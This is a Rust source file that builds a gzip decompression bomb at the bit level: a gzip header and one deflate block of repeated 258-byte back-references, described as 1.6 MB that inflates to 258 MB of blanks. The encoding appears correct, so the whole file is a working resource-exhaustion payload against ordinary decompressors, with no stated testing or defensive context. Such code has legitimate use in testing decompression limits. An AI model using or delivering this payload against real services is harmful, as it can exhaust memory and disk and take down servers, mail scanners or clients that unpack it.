//! A gzip bomb, built by hand (RFC 1952, with deflate of RFC 1951): a header and one block that never ends.

/// Builds a gzip member of 1.6 MB that decompresses to 258 MB of blanks.
pub fn bomb() -> Vec<u8> {
    // One block with fixed Huffman codes: a literal blank, then matches of length 258 at distance 1.
    let mut bits = Bits::default();
    bits.push(0b011, 3);
    bits.huffman(0x30 + u32::from(b' '), 8);
    for _ in 0..1_000_000 {
        bits.huffman(0b1100_0101, 8);
        bits.huffman(0, 5);
    }
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    bytes.extend(bits.bytes);
    bytes
}

/// A bit string, packed as deflate requires: from the lowest bit of each byte.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, bits: u32) {
        for i in 0..bits {
            if self.used % 8 == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= ((value >> i & 1) as u8) << (self.used % 8);
            }
            self.used += 1;
        }
    }

    /// Adds a Huffman code, whose highest bit comes first (RFC 1951, section 3.1.1).
    fn huffman(&mut self, code: u32, bits: u32) {
        for i in (0..bits).rev() {
            self.push(code >> i, 1);
        }
    }
}
